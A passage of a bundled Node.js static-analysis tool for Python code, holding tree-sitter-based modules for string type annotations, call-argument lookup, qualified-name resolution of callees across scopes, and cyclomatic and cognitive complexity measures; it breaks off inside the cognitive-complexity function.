#!/usr/bin/env node
/******/ (() => { // webpackBootstrap
/******/ 	"use strict";
/******/ 	var __webpack_modules__ = ({

/***/ 6016:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.TYPE_CALLS = exports.TYPE_FORMS = void 0;
exports.isTypeAliasAnnotation = isTypeAliasAnnotation;
exports.typeStringValue = typeStringValue;
exports.forwardReferenceNames = forwardReferenceNames;
exports.isTypeString = isTypeString;
/**
 * String annotations: names that Python (or a type checker) reads inside strings used as types,
 * `"List[Node]"`, `Optional["Node"]`, `cast("Node", x)`, `TypeVar("T", bound="Base")`.
 *
 * The scope builder (src/analysis/scope-builder.ts) asks two questions of each string literal it
 * meets in an annotation or in a typing construct:
 *
 * - `isTypeString(node)`: is this literal used as a type (a forward reference)? Decided from the
 *   literal's place: an annotation or `type` alias value, an argument of a typing form
 *   (`Optional[...]`, `list[...]`, but not `Literal[...]` nor the metadata of `Annotated[...]`),
 *   the type argument of `cast`, `TypeVar`, `NewType`, `TypeAliasType`, the fields of functional
 *   `TypedDict` and `NamedTuple`, the value of an `X: TypeAlias = ...`.
 * - `forwardReferenceNames(value, language)`: the names the type expression written in the string
 *   reads, found by parsing it with the file's grammar (strings in it are followed, three levels
 *   deep); undefined when it is not an expression. Answers are cached by string value: the same
 *   few annotations recur throughout a code base.
 *
 * String values are read by `stringLiteralValue(node, { allowFStrings: false })` (src/analysis/
 * literals.ts): f-strings and bytes are never types.
 */
const web_tree_sitter_1 = __nccwpck_require__(3778);
const tree_1 = __nccwpck_require__(3036);
const literals_1 = __nccwpck_require__(8436);
/** Parents of a `type` node that make it an annotation. */
const ANNOTATION_OWNERS = new Set(['typed_parameter', 'typed_default_parameter', 'function_definition', 'assignment']);
/**
 * Subscripted names whose arguments are type expressions even outside annotations (so strings in
 * them are forward references): `Optional["Node"]`, `list["Node"]`. Over-approximating only makes
 * more names count as read, never fewer.
 */
exports.TYPE_FORMS = new Set([
    'Optional',
    'Union',
    'List',
    'Dict',
    'Set',
    'FrozenSet',
    'Tuple',
    'Type',
    'Callable',
    'Iterable',
    'Iterator',
    'Sequence',
    'MutableSequence',
    'Mapping',
    'MutableMapping',
    'AbstractSet',
    'MutableSet',
    'Collection',
    'Container',
    'Reversible',
    'Generator',
    'AsyncGenerator',
    'AsyncIterable',
    'AsyncIterator',
    'Awaitable',
    'Coroutine',
    'ClassVar',
    'Final',
    'DefaultDict',
    'OrderedDict',
    'Counter',
    'Deque',
    'ChainMap',
    'ContextManager',
    'AsyncContextManager',
    'Generic',
    'Protocol',
    'TypeGuard',
    'TypeIs',
    'Required',
    'NotRequired',
    'ReadOnly',
    'Unpack',
    'Concatenate',
    'IO',
    'Pattern',
    'Match',
    'KeysView',
    'ValuesView',
    'ItemsView',
    'MappingView',
    'TypeAlias',
    'list',
    'dict',
    'set',
    'frozenset',
    'tuple',
    'type',
]);
/** Calls whose string arguments can be types: `cast("T", x)`, `TypeVar("T", bound="B")`, ... */
exports.TYPE_CALLS = new Set(['cast', 'TypeVar', 'NewType', 'TypeAliasType', 'TypedDict', 'NamedTuple']);
/** `X: TypeAlias = ...` (or `typing.TypeAlias`): the annotation text says the value is a type. */
function isTypeAliasAnnotation(annotation) {
    return /(^|\.)TypeAlias$/.test(annotation.trim());
}
/** The value of a string literal that can be a type: no f-strings, no bytes. */
function typeStringValue(node) {
    return (0, literals_1.stringLiteralValue)(node, { allowFStrings: false });
}
/** Last component of a dotted callee or subscript base: `Literal` for `typing.Literal`. */
function lastName(node) {
    if (!node)
        return undefined;
    if (node.type === 'identifier')
        return node.text;
    if (node.type === 'attribute')
        return node.childForFieldName('attribute')?.text;
    return undefined;
}
let snippetParser;
/** A parser for string annotations, sharing the language of the file's tree. */
function parserFor(language) {
    if (!snippetParser || snippetParser.language !== language) {
        snippetParser?.parser.delete();
        const parser = new web_tree_sitter_1.Parser();
        parser.setLanguage(language);
        snippetParser = { language, parser };
    }
    return snippetParser.parser;
}
/** Names of recently seen string annotations (the same few recur throughout a code base). */
const forwardReferenceCache = new Map();
/**
 * Names read by a type expression written in a string, or undefined when the string is not a
 * valid expression (Python would reject it as an annotation too).
 */
function forwardReferenceNames(value, language, depth = 0) {
    if (depth === 0 && forwardReferenceCache.has(value))
        return forwardReferenceCache.get(value);
    const names = parseForwardReference(value, language, depth);
    if (depth === 0) {
        if (forwardReferenceCache.size >= 2000)
            forwardReferenceCache.clear();
        forwardReferenceCache.set(value, names);
    }
    return names;
}
function parseForwardReference(value, language, depth) {
    const expression = value.trim();
    if (expression === '' || depth > 3)
        return undefined;
    // Parenthesised, like the implicit parentheses of an annotation, so that line breaks are fine.
    const source = `(${expression}\n)`;
    const parsed = parserFor(language).parse(source);
    if (!parsed)
        return undefined;
    let tree;
    try {
        tree = tree_1.SyntaxTree.from(parsed, source);
    }
    finally {
        parsed.delete();
    }
    const root = tree.rootNode;
    if (root.hasError || root.namedChildCount !== 1)
        return undefined;
    const statement = root.namedChild(0);
    if (!statement || statement.type !== 'expression_statement' || statement.namedChildCount !== 1)
        return undefined;
    const names = [];
    collectTypeExpressionNames(statement.namedChild(0), true, names, { language, depth });
    return names;
}
/**
 * Names read by an expression parsed from a string annotation. `typeContext` is false inside
 * `Literal[...]` and the metadata of `Annotated[...]`, where strings are values, not types.
 */
function collectTypeExpressionNames(node, typeContext, out, snippet) {
    switch (node.type) {
        case 'identifier':
            out.push(node.text);
            return;
        case 'attribute': {
            const object = node.childForFieldName('object');
            if (object)
                collectTypeExpressionNames(object, typeContext, out, snippet);
            return;
        }
        case 'keyword_argument': {
            const value = node.childForFieldName('value');
            if (value)
                collectTypeExpressionNames(value, typeContext, out, snippet);
            return;
        }
        case 'string':
        case 'concatenated_string': {
            const value = typeContext ? typeStringValue(node) : undefined;
            if (value !== undefined) {
                out.push(...(forwardReferenceNames(value, snippet.language, snippet.depth + 1) ?? []));
                return;
            }
            break; // f-strings: their interpolations are ordinary expressions
        }
        case 'subscript': {
            const base = node.childForFieldName('value');
            if (base)
                collectTypeExpressionNames(base, typeContext, out, snippet);
            const name = lastName(base);
            let index = 0;
            for (const slice of node.childrenForFieldName('subscript')) {
                if (!slice)
                    continue;
                const inner = typeContext && name !== 'Literal' && !(name === 'Annotated' && index > 0);
                collectTypeExpressionNames(slice, inner, out, snippet);
                index++;
            }
            return;
        }
    }
    for (const child of node.namedChildren) {
        if (child)
            collectTypeExpressionNames(child, typeContext, out, snippet);
    }
}
/** True when the string literal `node` is used as a type (a forward reference). */
function isTypeString(node) {
    let current = node;
    for (;;) {
        const parent = current.parent;
        if (!parent)
            return false;
        switch (parent.type) {
            case 'concatenated_string':
            case 'tuple':
            case 'list':
            case 'dictionary':
            case 'parenthesized_expression':
            case 'binary_operator':
            case 'expression_list':
            case 'union_type':
            case 'constrained_type':
            case 'member_type':
                current = parent;
                continue;
            case 'pair':
                // The field types of `TypedDict("T", {"name": "Type"})`; keys are never types.
                if (parent.childForFieldName('value')?.id !== current.id)
                    return false;
                current = parent;
                continue;
            case 'type': {
                const owner = parent.parent;
                if (owner && (ANNOTATION_OWNERS.has(owner.type) || owner.type === 'type_alias_statement'))
                    return true;
                current = parent;
                continue;
            }
            case 'type_parameter': {
                const owner = parent.parent;
                if (owner?.type !== 'generic_type')
                    return true; // a PEP 695 bound
                const name = owner.firstNamedChild?.text;
                if (name === 'Literal')
                    return false;
                if (name === 'Annotated' && parent.firstNamedChild?.id !== current.id)
                    return false;
                if (name === 'Annotated' || exports.TYPE_FORMS.has(name ?? ''))
                    return true;
                current = owner;
                continue;
            }
            case 'subscript': {
                const base = parent.childForFieldName('value');
                if (!base || base.id === current.id)
                    return false;
                const name = lastName(base);
                if (name === 'Literal')
                    return false;
                if (name === 'Annotated')
                    return parent.childForFieldName('subscript')?.id === current.id;
                if (exports.TYPE_FORMS.has(name ?? ''))
                    return true;
                current = parent;
                continue;
            }
            case 'argument_list': {
                const call = parent.parent;
                const callee = lastName(call?.childForFieldName('function') ?? null);
                const positional = parent.namedChildren.filter((c) => c && c.type !== 'keyword_argument' && c.type !== 'comment');
                const position = positional.findIndex((c) => c?.id === current.id);
                if (callee === 'cast')
                    return position === 0;
                if (callee === 'TypeVar')
                    return position > 0;
                if (callee === 'NewType' || callee === 'TypeAliasType')
                    return position === 1;
                // Functional `TypedDict("T", {...})` and `NamedTuple("T", [("name", "Type")])`.
                if (callee === 'TypedDict' || callee === 'NamedTuple')
                    return position === 1;
                return false;
            }
            case 'assignment': {
                // `X: TypeAlias = "Node | None"`: the value is a type expression.
                const annotation = parent.childForFieldName('type');
                if (!annotation || parent.childForFieldName('right')?.id !== current.id)
                    return false;
                return isTypeAliasAnnotation(annotation.text);
            }
            case 'keyword_argument': {
                // `TypeVar("T", bound="Node")`, `NamedTuple("T", name="Type")`, `TypedDict("T", name="Type")`.
                const callee = lastName(parent.parent?.parent?.childForFieldName('function') ?? null);
                if (callee === 'TypedDict' || callee === 'NamedTuple')
                    return true;
                return callee === 'TypeVar' && parent.childForFieldName('name')?.text === 'bound';
            }
            default:
                return false;
        }
    }
}


/***/ }),

/***/ 9950:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.positionalArguments = positionalArguments;
exports.keywordArgument = keywordArgument;
exports.keywordValue = keywordValue;
exports.hasArgumentSplat = hasArgumentSplat;
exports.argumentAt = argumentAt;
const literals_1 = __nccwpck_require__(8436);
function argumentsOf(call) {
    return call.type === 'call' ? call.childForFieldName('arguments') : null;
}
/**
 * Positional arguments in order. `*args` appear as `list_splat` nodes, where they stand; the
 * argument of `f(x for x in y)` is its `generator_expression`.
 */
function positionalArguments(call) {
    const args = argumentsOf(call);
    if (!args)
        return [];
    if (args.type === 'generator_expression')
        return [args];
    return (0, literals_1.namedChildrenOf)(args).filter((n) => n.type !== 'keyword_argument' && n.type !== 'dictionary_splat');
}
const NO_KEYWORDS = new Map();
/** Key of the tree's cache of keyword arguments by call. */
const KEYWORDS = {};
function keywordsOf(call) {
    const cache = call.tree.memo(KEYWORDS);
    let keywords = cache.get(call.id);
    if (keywords)
        return keywords;
    keywords = NO_KEYWORDS;
    const args = argumentsOf(call);
    if (args && args.type === 'argument_list') {
        for (const child of (0, literals_1.namedChildrenOf)(args)) {
            if (child.type !== 'keyword_argument')
                continue;
            const name = child.childForFieldName('name')?.text;
            if (name === undefined)
                continue;
            if (keywords === NO_KEYWORDS)
                keywords = new Map();
            if (!keywords.has(name))
                keywords.set(name, { argument: child });
        }
    }
    cache.set(call.id, keywords);
    return keywords;
}
/** The `keyword_argument` node `name=...` of a call, if written explicitly. */
function keywordArgument(call, name) {
    return keywordsOf(call).get(name)?.argument;
}
/** The value node of keyword argument `name=...`, if written explicitly. */
function keywordValue(call, name) {
    const entry = keywordsOf(call).get(name);
    if (!entry)
        return undefined;
    if (entry.value === undefined)
        entry.value = entry.argument.childForFieldName('value');
    return entry.value ?? undefined;
}
/** True when the call unpacks arguments (`*args` or `**kwargs`), which may hide any parameter. */
function hasArgumentSplat(call) {
    const args = argumentsOf(call);
    if (!args || args.type !== 'argument_list')
        return false;
    return (0, literals_1.namedChildrenOf)(args).some((n) => n.type === 'list_splat' || n.type === 'dictionary_splat');
}
/**
 * The argument for the parameter at `index` (0-based) that may also be passed as `keyword`:
 * the positional argument there, else the keyword's value. When a `*args` splat stands at or
 * before `index`, that `list_splat` node is returned: the argument is somewhere in it, unknown.
 * Undefined when the argument is not written (it may still hide in a `**kwargs`).
 */
function argumentAt(call, index, keyword) {
    const positional = positionalArguments(call);
    for (let i = 0; i < positional.length; i++) {
        if (positional[i].type === 'list_splat' || i === index)
            return positional[i];
    }
    return keyword === undefined ? undefined : keywordValue(call, keyword);
}


/***/ }),

/***/ 4463:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.calls = void 0;
const names_1 = __nccwpck_require__(5166);
const literals_1 = __nccwpck_require__(8436);
const scopes_1 = __nccwpck_require__(7985);
// ---------------------------------------------------------------------------------------------
// The analysis
exports.calls = {
    name: 'calls',
    uses: [scopes_1.scopes],
    create(context) {
        // Call nodes by id until the end (numbers, not node objects that would live as long as the file).
        const callIds = [];
        return {
            call(node) {
                callIds.push(node.id);
            },
            end() {
                const model = context.analysis(scopes_1.scopes);
                const facts = new Facts(model);
                const resolver = new Resolver(facts, false);
                const assuming = new Resolver(facts, true);
                const cursor = new scopes_1.ScopeCursor(model);
                const tree = context.tree;
                const sites = [];
                // Without star imports the two readings are the same: resolve once.
                const stars = model.scopes.some((scope) => scope.starImports.length > 0);
                for (const id of callIds) {
                    const node = tree.node(id);
                    const callee = node.childForFieldName('function');
                    if (!callee)
                        continue;
                    const scope = cursor.at(node);
                    const qualifiedName = resolver.resolveCallee(callee, context.text, scope);
                    sites.push(new LazyCallSite(node, callee, qualifiedName, stars ? assuming.resolveCallee(callee, context.text, scope) : qualifiedName));
                }
                // Sites by name, made when a rule first asks: each security rule asks for a few names,
                // and filtering every call of the file for each of them showed in profiles.
                let byQualified;
                let byAssumed;
                const callModel = {
                    calls: sites,
                    callsTo: (names) => sitesNamed((byQualified ??= indexSites(sites, 'qualifiedName')), names),
                    callsToAssumed: (names) => sitesNamed((byAssumed ??= stars ? indexSites(sites, 'assumedName') : (byQualified ??= indexSites(sites, 'qualifiedName'))), names),
                    callAt: (node) => siteAt(sites, node.id),
                    resolve: (expression) => resolver.resolve(expression, 0, false),
                    resolveAssumed: (expression) => assuming.resolve(expression, 0, false),
                };
                context.setAnalysis(exports.calls.name, callModel);
            },
        };
    },
};
/** The call sites by qualified (or assumed) name, each list in source order. */
function indexSites(sites, key) {
    const index = new Map();
    for (const site of sites) {
        const name = site[key];
        if (name === undefined)
            continue;
        const list = index.get(name);
        if (list)
            list.push(site);
        else
            index.set(name, [site]);
    }
    return index;
}
/** The sites with one of `names`, in source order (node ids are pre-order indices). */
function sitesNamed(index, names) {
    const out = [];
    let lists = 0;
    for (const name of new Set(names)) {
        const list = index.get(name);
        if (!list)
            continue;
        for (const site of list)
            out.push(site);
        lists++;
    }
    if (lists > 1)
        out.sort((a, b) => a.node.id - b.node.id);
    return out;
}
/** The site of call node `id`, by binary search: sites are in pre-order. */
function siteAt(sites, id) {
    let lo = 0;
    let hi = sites.length - 1;
    while (lo <= hi) {
        const mid = (lo + hi) >>> 1;
        const at = sites[mid].node.id;
        if (at === id)
            return sites[mid];
        if (at < id)
            lo = mid + 1;
        else
            hi = mid - 1;
    }
    return undefined;
}
/** A call site whose argument list and written name are read from the tree only when asked for. */
class LazyCallSite {
    node;
    callee;
    qualifiedName;
    assumedName;
    argsNode;
    written = null;
    constructor(node, callee, qualifiedName, assumedName) {
        this.node = node;
        this.callee = callee;
        this.qualifiedName = qualifiedName;
        this.assumedName = assumedName;
    }
    get args() {
        if (this.argsNode === undefined)
            this.argsNode = this.node.childForFieldName('arguments');
        return this.argsNode;
    }
    get writtenName() {
        if (this.written === null)
            this.written = writtenChain(this.callee);
        return this.written;
    }
}
/** The callee as a dotted chain of names (`sp.Popen`), or undefined for anything else. */
function writtenChain(node) {
    // Iterative: `a.b.c...` chains of any length must not overflow the stack.
    const parts = [];
    let expr = (0, literals_1.unparenthesize)(node);
    while (expr.type === 'attribute') {
        const object = expr.childForFieldName('object');
        const attribute = expr.childForFieldName('attribute');
        if (!object || !attribute)
            return undefined;
        parts.push(attribute.text);
        expr = (0, literals_1.unparenthesize)(object);
    }
    if (expr.type !== 'identifier')
        return undefined;
    parts.push(expr.text);
    return parts.reverse().join('.');
}
// ---------------------------------------------------------------------------------------------
// Resolution
/** Python 3 builtin functions and types (exceptions left out: no rule asks about calling them). */
const BUILTINS = new Set(('abs aiter all anext any ascii bin bool breakpoint bytearray bytes callable chr classmethod compile complex ' +
    'copyright credits delattr dict dir divmod enumerate eval exec exit filter float format frozenset getattr ' +
    'globals hasattr hash help hex id input int isinstance issubclass iter len license list locals map max ' +
    'memoryview min next object oct open ord pow print property quit range repr reversed round set setattr ' +
    'slice sorted staticmethod str sum super tuple type vars zip __import__').split(' '));
function builtin(name) {
    return BUILTINS.has(name) ? `builtins.${name}` : undefined;
}
/** How deep alias chains (`a = b`, `b = c.d`, ...) are followed before giving up. */
const MAX_ALIAS_DEPTH = 8;
/** Functions, lambdas and comprehensions: a name bound anywhere in them is local to all of them. */
function isFunctionLike(scope) {
    return scope.kind === 'function' || scope.kind === 'lambda' || scope.kind === 'comprehension';
}
const OTHER = { kind: 'other' };
const NONE = { kind: 'none' };
/** The star imports of a scope when star imports are assumed to bind nothing. */
const NO_STARS = [];
/** Results of a lookup in one scope besides a name or undefined. */
const NOT_HERE = Symbol('not bound in this scope');
const UNBOUND = Symbol('deleted');
/** What both readings share: the model, and the facts about bindings they derive from it. */
class Facts {
    model;
    /** Bindings made under `global`/`nonlocal` declarations, by the scope they land in, then by name. */
    landed;
    /** What each binding a resolution went through gives, made on the first visit. */
    meanings = new Map();
    constructor(model) {
        this.model = model;
        this.landed = landedBindings(model);
    }
    /** Bindings that land in `scope` for `name` from declarations in scopes inside it. */
    landedIn(scope, name) {
        return this.landed?.get(scope)?.get(name);
    }
    meaningOf(binding) {
        switch (binding.kind) {
            case 'import':
                // `import a.b` binds `a` to the package `a`; `import a.b as c` binds `c` to `a.b`.
                return { kind: 'import', name: binding.import.alias === undefined ? binding.name : binding.import.qualifiedName };
            case 'from-import':
            case 'future-import': {
                // Relative imports name a module of an unknown package.
                const module = binding.import.module;
                return module === '' || module.startsWith('.') ? OTHER : { kind: 'import', name: binding.import.qualifiedName };
            }
            case 'assignment':
            case 'walrus': {
                let meaning = this.meanings.get(binding);
                if (!meaning)
                    this.meanings.set(binding, (meaning = this.valueMeaning(binding)));
                return meaning;
            }
            default:
                return OTHER;
        }
    }
    /** `x = value` (the innermost value of `a = b = value`), `(x := value)`. */
    valueMeaning(binding) {
        const owner = binding.owner;
        let value;
        if (binding.kind === 'walrus')
            value = owner.childForFieldName('value');
        else {
            // Only a single name gets the value's meaning; unpacking binds unknown values.
            if (owner.childForFieldName('left')?.type !== 'identifier')
                return OTHER;
            value = owner.childForFieldName('right');
            while (value && value.type === 'assignment')
                value = value.childForFieldName('right');
        }
        if (!value)
            return OTHER;
        const expr = (0, literals_1.unparenthesize)(value);
        if (expr.type === 'none')
            return NONE;
        if (writtenChain(expr) === undefined)
            return OTHER;
        // A walrus binds outside the comprehension it may stand in; its value is evaluated inside.
        const scope = binding.kind === 'walrus' ? (0, scopes_1.scopeAt)(this.model, expr.startIndex) : binding.scope;
        return { kind: 'alias', value: expr, scope };
    }
}
/**
 * Where the bindings made under `global x` / `nonlocal x` land: the module, or the nearest
 * enclosing function that does not itself pass the name on (a `nonlocal` with no function to go
 * to binds nothing: a syntax error in Python). Undefined when no scope declares anything.
 */
function landedBindings(model) {
    let landed;
    const land = (from, name, to) => {
        const list = from.byName.get(name);
        if (!to || !list)
            return;
        landed ??= new Map();
        let names = landed.get(to);
        if (!names)
            landed.set(to, (names = new Map()));
        let into = names.get(name);
        if (!into)
            names.set(name, (into = []));
        for (const binding of list)
            if (binding.kind !== 'del')
                into.push(binding);
    };
    for (const scope of model.scopes) {
        if (scope.kind === 'module')
            continue;
        for (const name of scope.globals)
            land(scope, name, model.module);
        for (const name of scope.nonlocals)
            land(scope, name, nonlocalHome(scope, name, model.module));
    }
    return landed;
}
function nonlocalHome(scope, name, module) {
    let target = scope.parent;
    for (;;) {
        while (target && !isFunctionLike(target))
            target = target.kind === 'module' ? undefined : target.parent;
        if (!target)
            return undefined;
        if (target.globals.has(name))
            return module;
        if (!target.nonlocals.has(name))
            return target;
        target = target.parent;
    }
}
class Resolver {
    facts;
    ignoreStars;
    constructor(facts, 
    /** Star imports bind nothing (the `assumedName` reading). */
    ignoreStars) {
        this.facts = facts;
        this.ignoreStars = ignoreStars;
    }
    /**
     * Qualified name of a name or attribute chain, or undefined. `noneFails`: the expression is
     * called or has an attribute read, so a `None` value would have raised and `x = None` bindings
     * can be ignored. `scope`: where the expression is evaluated, when the caller knows.
     */
    resolve(node, depth, noneFails, scope) {
        if (depth > MAX_ALIAS_DEPTH)
            return undefined;
        const expr = (0, literals_1.unparenthesize)(node);
        if (expr.type === 'identifier') {
            return this.resolveName(expr.text, expr.startIndex, scope ?? (0, scopes_1.scopeAt)(this.facts.model, expr.startIndex), depth, noneFails);
        }
        if (expr.type === 'attribute') {
            const object = expr.childForFieldName('object');
            const attribute = expr.childForFieldName('attribute');
            const base = object ? this.resolve(object, depth, true, scope) : undefined;
            return base !== undefined && attribute ? `${base}.${attribute.text}` : undefined;
        }
        return undefined;
    }
    /**
     * `resolve(callee, 0, true, scope)`, first trying the cheap way. Whatever the callee, the name or
     * attribute chain it may be starts with the identifier written where it starts (an ASCII one,
     * read from the source text); when that name resolves to nothing there, neither does the callee,
     * and the tree is not asked.
     */
    resolveCallee(callee, source, scope) {
        const start = callee.startIndex;
        const root = (0, names_1.asciiIdentifierAt)(source, start);
        if (root !== undefined) {
            // A non-ASCII character next may continue the identifier: then ask the tree.
            const next = start + root.length;
            const complete = next >= source.length || source.charCodeAt(next) < 0x80;
            if (complete && this.resolveName(root, start, scope, 0, true) === undefined)
                return undefined;
        }
        return this.resolve(callee, 0, true, scope);
    }
    resolveName(name, at, scope, depth, noneFails) {
        const module = this.facts.model.module;
        let s = scope;
        let sameScope = true;
        while (s) {
            if (!sameScope && s.kind === 'class') {
                // Class bodies are not visible from the functions (and comprehensions) they contain.
                s = s.parent;
                continue;
            }
            if (s.kind !== 'module' && s.globals.has(name)) {
                s = module;
                sameScope = false;
                continue;
            }
            if (s.nonlocals.has(name)) {
                s = s.parent;
                sameScope = false;
                continue;
            }
            // Comprehension targets are bound before the comprehension's body runs, though written after it.
            const found = this.inScope(s, name, at, sameScope && s.kind !== 'comprehension', depth, noneFails);
            if (found === UNBOUND)
                return isFunctionLike(s) ? undefined : builtin(name);
            if (found !== NOT_HERE)
                return found;
            sameScope = false;
            s = s.parent;
        }
        return builtin(name);
    }
    /**
     * The name `name` has in scope `s` for a use at `at` (`ordered`: the use is in the scope's own
     * code, so the bindings before it count, see the file comment), or NOT_HERE when the lookup goes
     * on to the enclosing scope, or UNBOUND when the scope model's binding for the use is a `del`.
     * Allocates nothing: this runs for every name of every call of the file.
     */
    inScope(s, name, at, ordered, depth, noneFails) {
        const list = s.byName.get(name); // sorted by `at`
        const stars = this.ignoreStars ? NO_STARS : s.starImports;
        const landed = this.facts.landedIn(s, name);
        if (list === undefined && stars.length === 0 && landed === undefined)
            return NOT_HERE;
        const limit = ordered ? at : Infinity;
        // The scope model's binding for the use: the last one made before it (for a use elsewhere, the last one).
        let last = -1;
        if (list)
            while (last + 1 < list.length && list[last + 1].at <= limit)
                last++;
        // A use from a nested scope (a function body) runs whenever the function is called, often
        // before a module's closing `del os, sys` (numpy's __init__): trailing `del`s do not unbind it.
        if (!ordered)
            while (last >= 0 && list[last].kind === 'del')
                last--;
        // The rebinding group it belongs to starts after the last `del` before the use.
        let cut = -1;
        for (let k = last; k >= 0; k--) {
            if (list[k].kind === 'del') {
                cut = k;
                break;
            }
        }
        const cutAt = cut >= 0 ? list[cut].at : -Infinity;
        let lastStar = -Infinity;
        for (const star of stars)
            if (star.endIndex <= limit)
                lastStar = star.endIndex;
        if (last >= 0 && cut === last && lastStar < cutAt)
            return UNBOUND;
        // The explicit bindings that reach the use: the group's members before it, and (in the
        // scope's own code) later ones that a loop brings back to it. The latest of them overrides
        // the star imports before it.
        let latest = -Infinity;
        if (list)
            for (let k = cut + 1; k < list.length; k++)
                if (k <= last || this.reachesBack(s, list[k], at, ordered))
                    latest = list[k].at;
        let result;
        let reaching = 0;
        if (list) {
            for (let k = cut + 1; k < list.length; k++) {
                if (k > last && !this.reachesBack(s, list[k], at, ordered))
                    continue;
                reaching++;
                const named = this.named(list[k], depth, noneFails);
                if (named === NOT_HERE)
                    continue;
                if (named === undefined || (result !== undefined && result !== named))
                    return undefined;
                result = named;
            }
        }
        for (const star of stars) {
            const starAt = star.endIndex;
            if (starAt <= cutAt || !(starAt <= limit || (ordered && (0, scopes_1.sharesLoop)(s, starAt, at))))
                continue;
            reaching++;
            if (starAt < latest)
                continue; // an explicit binding after it decides
            return undefined; // the star import may bind the name to anything
        }
        // Bindings made under `global`/`nonlocal` elsewhere can happen at any time.
        if (landed) {
            for (const binding of landed) {
                reaching++;
                const named = this.named(binding, depth, noneFails);
                if (named === NOT_HERE)
                    continue;
                if (named === undefined || (result !== undefined && result !== named))
                    return undefined;
                result = named;
            }
        }
        if (reaching > 0)
            return result;
        // Bound in this function but not yet: an UnboundLocalError, not the enclosing name.
        return isFunctionLike(s) ? undefined : NOT_HERE;
    }
    /** A binding made after a use at `at` in the scope's own code (`ordered`) that reaches back to it through a loop. */
    reachesBack(s, binding, at, ordered) {
        return ordered && binding.kind !== 'del' && (0, scopes_1.sharesLoop)(s, binding.at, at);
    }
    /** The qualified name a binding gives, undefined when unknown, NOT_HERE when it does not count (None for a call). */
    named(binding, depth, noneFails) {
        const meaning = this.facts.meaningOf(binding);
        switch (meaning.kind) {
            case 'import':
                return meaning.name;
            case 'alias':
                return this.resolve(meaning.value, depth + 1, noneFails, meaning.scope);
            case 'none':
                return noneFails ? NOT_HERE : undefined; // the use would fail on None: not the binding used
            default:
                return undefined;
        }
    }
}


/***/ }),

/***/ 600:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.complexity = void 0;
exports.measureFunction = measureFunction;
const docstrings_1 = __nccwpck_require__(3520);
const memos = new WeakMap();
function memoOf(node) {
    let memo = memos.get(node.tree);
    if (!memo)
        memos.set(node.tree, (memo = { children: new Map(), blocks: new Map(), clean: !node.tree.rootNode.hasError }));
    return memo;
}
/** `node.type` (a read of the flat tree's arrays). */
const typeOf = (node) => node.type;
/** The named children, memoised (callers do not modify the array). */
const named = (node) => {
    if (!node)
        return [];
    const children = memoOf(node).children;
    let list = children.get(node.id);
    if (!list)
        children.set(node.id, (list = node.namedChildren.filter(Boolean)));
    return list;
};
const ofType = (node, type) => named(node).filter((c) => typeOf(c) === type);
const blockOf = (node) => {
    if (!node)
        return null;
    const memo = memoOf(node);
    let block = memo.blocks.get(node.id);
    if (block === undefined) {
        // Every field that holds a block (`body`, `consequence`) holds only that, and no node has two
        // block children (tree-sitter-python's node-types.json), unless error recovery made the tree.
        const first = named(node).find((c) => typeOf(c) === 'block') ?? null;
        block = memo.clean ? first : (node.childForFieldName('body') ?? node.childForFieldName('consequence') ?? first);
        memo.blocks.set(node.id, block);
    }
    return block;
};
const statementsOf = (node) => named(blockOf(node));
/** Except clauses of a try statement (plain and `except*`). */
const handlersOf = (tryNode) => named(tryNode).filter((c) => typeOf(c) === 'except_clause' || typeOf(c) === 'except_group_clause');
// ---------------------------------------------------------------------------------------------
// Cyclomatic (Ruff C901)
// ---------------------------------------------------------------------------------------------
/** A case pattern that matches anything: `_` or a bare capture name (an or-pattern containing one). */
function isIrrefutable(caseClause) {
    if (caseClause.childForFieldName('guard'))
        return false;
    const patterns = ofType(caseClause, 'case_pattern');
    if (patterns.length !== 1)
        return false;
    const text = patterns[0].text.trim();
    return text.split('|').some((alt) => /^[\p{L}_][\p{L}\p{N}_]*$/u.test(alt.trim()));
}
function cyclomaticOf(statements) {
    let total = 0;
    for (const s of statements) {
        switch (typeOf(s)) {
            case 'if_statement':
                total += 1 + cyclomaticOf(statementsOf(s));
                for (const clause of named(s)) {
                    if (typeOf(clause) === 'elif_clause')
                        total += 1 + cyclomaticOf(statementsOf(clause));
                    else if (typeOf(clause) === 'else_clause')
                        total += cyclomaticOf(statementsOf(clause));
                }
                break;
            case 'for_statement':
            case 'while_statement':
                total += 1 + cyclomaticOf(statementsOf(s));
                for (const clause of ofType(s, 'else_clause'))
                    total += cyclomaticOf(statementsOf(clause));
                break;
            case 'try_statement':
                total += cyclomaticOf(statementsOf(s));
                for (const clause of named(s)) {
                    if (typeOf(clause) === 'except_clause' || typeOf(clause) === 'except_group_clause')
                        total += 1 + cyclomaticOf(statementsOf(clause));
                    else if (typeOf(clause) === 'else_clause')
                        total += 1 + cyclomaticOf(statementsOf(clause));
                    else if (typeOf(clause) === 'finally_clause')
                        total += cyclomaticOf(statementsOf(clause));
                }
                break;
            case 'with_statement':
            case 'class_definition':
                total += cyclomaticOf(statementsOf(s));
                break;
            case 'match_statement': {
                const cases = ofType(s.childForFieldName('body') ?? s, 'case_clause');
                for (const c of cases)
                    total += 1 + cyclomaticOf(statementsOf(c));
                if (cases.length > 0 && isIrrefutable(cases[cases.length - 1]))
                    total -= 1;
                break;
            }
            case 'function_definition':
                total += 1 + cyclomaticOf(statementsOf(s));
                break;
            case 'decorated_definition': {
                const def = s.childForFieldName('definition');
                if (def)
                    total += cyclomaticOf([def]);
                break;
            }
            default:
                break;
        }
    }
    return total;
}
// ---------------------------------------------------------------------------------------------
// Cognitive (SonarSource)
// ---------------------------------------------------------------------------------------------
function booleanOperator(node) {
    return node.childForFieldName('operator')?.type;
}
function cognitiveOf(fn, name, isMethod) {
    let total = 0;
    // Iterative (explicit stack): expressions can nest thousands deep.
    const body = fn.childForFieldName('body');
    const stack = body ? [[body, 0]] : [];
    while (stack.length > 0) {
        const [node, nesting] = stack.pop();
        let level = (_child) => nesting;
        switch (node.type) {
            case 'if_statement':
            case 'for_statement':
            case 'while_statement':
            case 'except_clause':
            case 'except_group_clause':
                total += 1 + nesting;
                level = (c) => (c.type === 'block' ? nesting + 1 : nesting);
                break;
            case 'elif_clause':
            case 'else_clause': {
